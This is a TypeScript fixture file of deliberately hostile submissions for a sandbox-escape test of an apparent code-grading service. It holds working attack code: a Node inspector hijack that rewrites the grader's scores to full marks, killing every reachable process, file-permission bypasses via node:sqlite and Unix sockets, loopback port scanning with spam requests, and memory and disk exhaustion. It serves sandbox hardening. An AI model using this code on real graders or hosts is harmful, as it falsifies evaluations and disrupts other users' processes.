/**
 * Hostile submissions for the attack test (attacks.test.ts), one per way out of the sandbox that
 * issue 8 found. Each is the hello-service solution (or starter) plus an attack that runs when the
 * service starts. An attack that gets out changes what the test sees: a score it should not have,
 * a connection to a server the test holds on the host, a file on the host, a dead neighbour.
 */

/** Rewrites the grader's results through its inspector, as the 20-line exploit did. */
export const inspectorAttack = `
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const evil = \`(() => { const w = process.stdout.write.bind(process.stdout); process.stdout.write = (s, ...a) => { try { const r = JSON.parse(String(s)); if (r && Array.isArray(r.checks)) { for (const c of r.checks) { c.status = 'pass'; c.earned = c.points; c.message = 'ok'; } r.score = r.maxScore; r.status = 'pass'; s = JSON.stringify(r) + '\\\\n'; } } catch {} return w(s, ...a); }; })()\`;
async function attack() {
  for (const pid of [process.ppid, 1, 2, 3, 4, 5]) {
    try { process.kill(pid, 'SIGUSR1'); } catch {}
    try { (process as any)._debugProcess(pid); } catch {}
  }
  await sleep(300);
  for (let port = 9229; port < 9239; port++) {
    try {
      const list = await (await fetch(\`http://127.0.0.1:\${port}/json/list\`)).json();
      for (const target of list) {
        const ws = new WebSocket(target.webSocketDebuggerUrl);
        ws.onopen = () => {
          ws.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: evil } }));
          ws.send(JSON.stringify({ id: 2, method: 'Runtime.evaluate', params: { expression: "require('child_process').execSync('touch __ATTACK_DIR__/inspector-escape')" } }));
        };
      }
    } catch {}
  }
}
void attack();
`;

/** Counts the processes (and threads: kill() takes a thread id too) it can signal: inside the sandbox only its own run's, a few dozen; on this machine, thousands. */
export const processCountProbe = `
let seen = 0;
for (let pid = 1; pid < 70000; pid++) {
  try { process.kill(pid, 0); seen++; } catch (e) { if ((e as NodeJS.ErrnoException).code === 'EPERM') seen++; }
}
if (seen > 100) { console.log('sees', seen, 'processes'); process.exit(99); }
`;

/** SIGKILLs every process it can: in the sandbox that is its own run, never the batch. */
export const killEverything = `
for (let pid = 1; pid < 70000; pid++) { if (pid !== process.pid) { try { process.kill(pid, 'SIGKILL'); } catch {} } }
`;

/** node:sqlite opened files outside the permission model. */
export const sqliteAttack = `
import('node:sqlite').then((sqlite: any) => {
  const db = new sqlite.DatabaseSync(':memory:');
  try { db.exec("VACUUM INTO '__ATTACK_DIR__/sqlite-escape.db'"); } catch {}
  console.log('node:sqlite is available'); process.exit(99);
}, () => {});
`;

/** Unix domain sockets are not covered by the permission model: connect to the host's, make one there. */
export const unixSocketAttack = `
import('node:net').then((net) => {
  const c = net.connect('__ATTACK_DIR__/host.sock');
  c.on('connect', () => { c.write('escaped'); process.exit(99); });
  c.on('error', () => {});
  const s = net.createServer();
  s.on('error', () => {});
  s.listen('__ATTACK_DIR__/evil.sock');
});
`;

/** Reaches the host's loopback: a server the test holds, and every neighbour's port. */
export const networkAttack = `
import('node:net').then(async (net) => {
  const hit = (port: number) => new Promise<void>((resolve) => {
    const c = net.connect({ host: '127.0.0.1', port });
    c.setTimeout(200, () => { c.destroy(); resolve(); });
    c.on('connect', () => {
      if (port !== Number(process.env.PORT)) c.write('POST /items HTTP/1.1\\r\\nhost: x\\r\\ncontent-type: application/json\\r\\ncontent-length: 27\\r\\n\\r\\n{"name":"spam","price":666}');
      setTimeout(() => { c.destroy(); resolve(); }, 20);
    });
    c.on('error', () => resolve());
  });
  await hit(__ATTACK_PORT__);
  for (let round = 0; round < 3; round++) {
    for (let port = 1024; port < 65536; port += 256) {
      await Promise.all(Array.from({ length: 256 }, (_, i) => hit(port + i)));
    }
  }
});
`;

/** Memory outside the V8 heap is not capped by --max-old-space-size. */
export const offHeapHog = `const hoard: Buffer[] = [];\nexport function hog(): void { for (;;) hoard.push(Buffer.alloc(16 * 1024 * 1024, 1)); }\n`;

/** Fills its tmp folder: past the tmpfs cap writes fail, the host's disk is untouched. */
export const diskAttack = `
import('node:fs').then((fs) => {
  let written = 0;
  const chunk = Buffer.alloc(1024 * 1024, 7);
  try { for (let i = 0; i < 2048; i++) { fs.writeFileSync(process.env.TMPDIR + '/fill-' + i, chunk); written += chunk.length; } } catch {}
  if (written > 17 * 1024 * 1024) { console.log('wrote', written); process.exit(99); }
});
`;
